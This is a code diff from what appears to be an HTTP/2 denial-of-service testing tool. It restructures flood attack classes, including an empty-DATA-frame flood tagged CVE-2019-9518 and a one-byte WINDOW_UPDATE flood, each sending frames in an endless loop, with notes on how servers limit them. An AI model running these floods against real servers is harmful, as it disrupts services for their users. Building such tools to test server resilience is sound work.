@@ -39,12 +39,12 @@ _BLOCK: Final = request_block()
 class _Flood(Attack):
     """The same frames over and over, after an opening."""
 
-    opening: ClassVar[bytes] = b""
+    opening: ClassVar[bytes] = greeting()
     frames: ClassVar[bytes]
     stops: ClassVar[Sequence[str]] = ("GOAWAY ENHANCE_YOUR_CALM",)
 
     async def strike(self, peer: Peer) -> None:
-        await peer.send(greeting() + self.opening)
+        await peer.send(self.opening)
         flood = self.frames * _AT_ONCE
         while True:
             await peer.send(flood, _AT_ONCE)
@@ -77,7 +77,7 @@ class EmptyData(_Flood):
     cve = "CVE-2019-9518"
     summary = "DATA frames without a byte in them, which no window counts"
     limit = "100 at once, 10 a second"
-    opening = frame(Kind.HEADERS, END_HEADERS, 1, _BLOCK)
+    opening = greeting() + frame(Kind.HEADERS, END_HEADERS, 1, _BLOCK)
     frames = frame(Kind.DATA, 0, 1, b"")
 
 
@@ -107,13 +107,8 @@ class WindowUpdates(_Flood):
     summary = "WINDOW_UPDATEs of one byte for the connection"
     limit = "none of its own where nothing waits for window: they cost 0.3 us each, and reads are kept short"
     stops: ClassVar[Sequence[str]] = ()
+    opening = greeting(connection_window=65_535)  # or the credit would soon be too much, which is an error
     frames = window_update(0, 1)
-
-    async def strike(self, peer: Peer) -> None:
-        await peer.send(greeting(connection_window=65_535))  # or the credit would soon be too much, which is an error
-        flood = self.frames * _AT_ONCE
-        while True:
-            await peer.send(flood, _AT_ONCE)
 
 
 class WindowDribble(Attack):
